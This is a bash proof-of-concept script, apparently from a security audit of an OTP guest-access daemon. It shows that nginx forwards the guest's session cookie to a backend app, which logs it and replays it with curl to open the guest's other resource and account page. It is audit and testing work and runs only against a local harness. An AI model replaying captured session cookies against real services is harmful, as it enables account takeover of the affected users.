#!/bin/bash
# Finding 01: every protected resource's application receives the guest's otpd session cookie.
# contrib/nginx/resource.conf (and the test nginx) proxy the client's request, Cookie header included,
# to the application behind auth_request; the cookie must reach that host (same host as otpd's pages,
# or cookie_domain) and nothing strips guestlink_session before proxy_pass. The session is one bearer
# credential for ALL of the guest's invitations and for /account, so the operator (or the access log,
# or a compromise) of ONE resource application gets in, as the guest, to the guest's OTHER resources
# (and can delete the guest at /account/leave, or mint new recovery codes with a recovery code).
#
# Set-up: one nginx shaped like contrib/nginx/resource.conf, two resources on it: /app/ (a small
# application, python, that logs the headers it is sent: the hostile resource) and /team/43/ (static,
# the victim resource). The guest is invited to both, signs in with code + TOTP, and uses /app/.
#
# Run from the tree after `make -j2 all test-bins`: bash findings/01-resource-app-gets-session.sh
# Exit 1: the attack works (the app's logged cookie opens /team/43 and /account); 0: refused; 2: setup failed.
cd "$(dirname "$0")/.." || exit 2
export OTPD_TEST_CHECKS=0
. tests/otpd/lib.sh
fail() { echo "SETUP FAILED: $*" >&2; [ -f "$T/otpd.log" ] && tail -5 "$T/otpd.log" >&2; exit 2; }
APP_PID=
trap '_r=$?; [ -n "$APP_PID" ] && kill "$APP_PID" 2>/dev/null; (exit $_r); cleanup' EXIT
setup "mail_interval = 0s" "mails_per_hour = 100"
start_sink

# The hostile resource application: logs every request's headers.
APP_PORT=$(free_port)
cat >"$T/app.py" <<'PY'
import http.server, sys
log = open(sys.argv[2], "a")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log.write("%s %s\n" % (self.path, self.headers.get("Cookie", ""))); log.flush()
        body = b"the app\n"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
PY
python3 "$T/app.py" "$APP_PORT" "$T/app.log" &
APP_PID=$!

NGX_PORT=$(free_port)
NGX=http://127.0.0.1:$NGX_PORT
mkdir -p "$T/nginx/tmp" "$T/www/team/43"
echo "victim resource 43" >"$T/www/team/43/index.html"
cat >"$T/nginx/nginx.conf" <<NGC
daemon off;
pid $T/nginx/nginx.pid;
error_log $T/nginx/error.log info;
events { worker_connections 64; }
http {
    access_log off;
    client_body_temp_path $T/nginx/tmp/body; proxy_temp_path $T/nginx/tmp/proxy;
    fastcgi_temp_path $T/nginx/tmp/fastcgi; uwsgi_temp_path $T/nginx/tmp/uwsgi; scgi_temp_path $T/nginx/tmp/scgi;
    upstream otpd { server 127.0.0.1:$HTTP_PORT; }
    server {
        listen 127.0.0.1:$NGX_PORT;
        server_name 127.0.0.1;
        root $T/www;
        # as contrib/nginx/resource.conf: auth_request, then the application
        location /app/ {
            auth_request /_guestlink_auth;
            auth_request_set \$guest_email \$upstream_http_x_guest_email;
            proxy_set_header X-Guest-Email \$guest_email;
            proxy_pass http://127.0.0.1:$APP_PORT;
        }
        location /team/ { auth_request /_guestlink_auth; }
        location = /_guestlink_auth {
            internal;
            proxy_pass http://otpd/auth;
            proxy_pass_request_body off;
            proxy_set_header Content-Length "";
            proxy_set_header Cookie \$http_cookie;
            proxy_set_header X-Original-URL \$scheme://\$server_name:\$server_port\$request_uri;
            proxy_set_header X-Forwarded-Host "";
            proxy_set_header X-Forwarded-Uri "";
            proxy_set_header X-Forwarded-Proto "";
        }
        location = /auth { deny all; }
        location / { proxy_pass http://otpd; proxy_set_header Host \$http_host; }
    }
}
NGC
nginx -p "$T/nginx/" -e "$T/nginx/error.log" -c "$T/nginx/nginx.conf" &
NGINX_PID=$!
sed -i "s|^public_url = .*|public_url = $NGX|" "$T/otpd.conf"
start_otpd
for _ in $(seq 50); do [ "$(command curl -s -o /dev/null -w '%{http_code}' "$NGX/healthz")" = 200 ] && break; sleep 0.1; done
BASE=$NGX

# The guest: invited to the app (by its owner) and to /team/43 (by someone else).
INVITER=owner@example.org
tokA=$("$MKTOKEN" "$SIGNING_KEY" owner@example.org "$NGX/app/" 0 86400 guest@example.net) || fail mktoken
tokB=$("$MKTOKEN" "$SIGNING_KEY" staff@example.org "$NGX/team/43" 0 86400 guest@example.net) || fail mktoken
html_accept "$tokB" guest@example.net
setup_page
[ "$(mfa_post /mfa/setup "$(totp "$SECRET")")" = 200 ] || fail "enrolment"
html_accept "$tokA" guest@example.net
[ "$(page "$BASE/mfa/verify")" = 200 ] || fail "verify page"
[ "$(mfa_post /mfa/verify "$(totp "$SECRET" $(( $(date +%s) + 30 )))")" = 200 ] || fail "TOTP"
[ "$(command curl -s -b "$T/jar" -o /dev/null -w '%{http_code}' "$NGX/app/page")" = 200 ] || fail "guest uses the app"

# The app operator's side: the cookie from the app's own request log.
cookie=$(tail -1 "$T/app.log" | cut -d' ' -f2-)
echo "the app was sent: Cookie: $(printf '%s' "$cookie" | sed 's/\(guestlink_session=.\{6\}\)[^;]*/\1.../')"
printf '%s' "$cookie" | grep -q 'guestlink_session=' || { echo "refused: no session cookie reached the app"; exit 0; }
s=$(command curl -s -H "Cookie: $cookie" -o "$T/stolen" -w '%{http_code}' "$NGX/team/43/index.html")
echo "app operator, with that cookie, GET /team/43/ (the guest's other resource) -> $s $(head -c 40 "$T/stolen")"
a=$(command curl -s -H "Cookie: $cookie" -o "$T/acct" -w '%{http_code}' "$NGX/account")
echo "app operator, with that cookie, GET /account -> $a"
if [ "$s" = 200 ] && grep -q 'victim resource 43' "$T/stolen"; then
	echo "ATTACK WORKS: one resource's application holds a session for all of the guest's resources"
	exit 1
fi
echo "refused"
exit 0
